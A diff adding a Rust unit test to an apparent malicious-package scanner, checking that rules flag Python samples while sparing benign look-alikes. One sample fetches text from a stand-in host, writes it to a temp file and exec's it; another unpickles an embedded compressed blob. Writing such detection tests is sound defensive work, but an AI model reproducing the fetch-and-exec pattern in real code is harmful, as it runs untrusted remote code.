@@ -829,3 +829,29 @@ subprocess.Popen('"' + sys.executable[:-4] + 'w.exe' + '" "' + os.path.expandvar
     let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
     assert!(found.contains(&"py-drop-run".to_string()), "{found:?}");
 }
+
+#[test]
+fn downloads_run_through_a_file_and_pickled_payloads() {
+    let via_file = r#"
+import requests, tempfile
+def go():
+    text = requests.get("https://example.invalid/raw/x").text
+    with tempfile.NamedTemporaryFile(mode="w", delete=False) as t:
+        t.write(text)
+        path = t.name
+    exec(open(path).read(), globals())
+go()
+"#;
+    let found = rules("demo-1.0/demo/__init__.py", via_file, Context::Import);
+    assert!(found.contains(&"py-network-exec".to_string()), "{found:?}");
+    // A version file read and executed is not this.
+    let version = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'version.py')).read())\n";
+    assert!(!setup(version).contains(&"py-network-exec".to_string()), "{:?}", setup(version));
+    let pickled = "import pickle, zlib\npickle.loads(zlib.decompress(b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01'))\n";
+    let found = rules("demo-1.0/demo/__init__.py", pickled, Context::Import);
+    assert!(found.contains(&"py-decode-exec".to_string()), "{found:?}");
+    // A cache read back is data from disk, not a literal payload.
+    let cache = "import pickle, zlib, subprocess\ndef load(p):\n    return pickle.loads(zlib.decompress(open(p, 'rb').read()))\n";
+    let found = rules("demo-1.0/demo/__init__.py", cache, Context::Import);
+    assert!(!found.contains(&"py-decode-exec".to_string()), "{found:?}");
+}
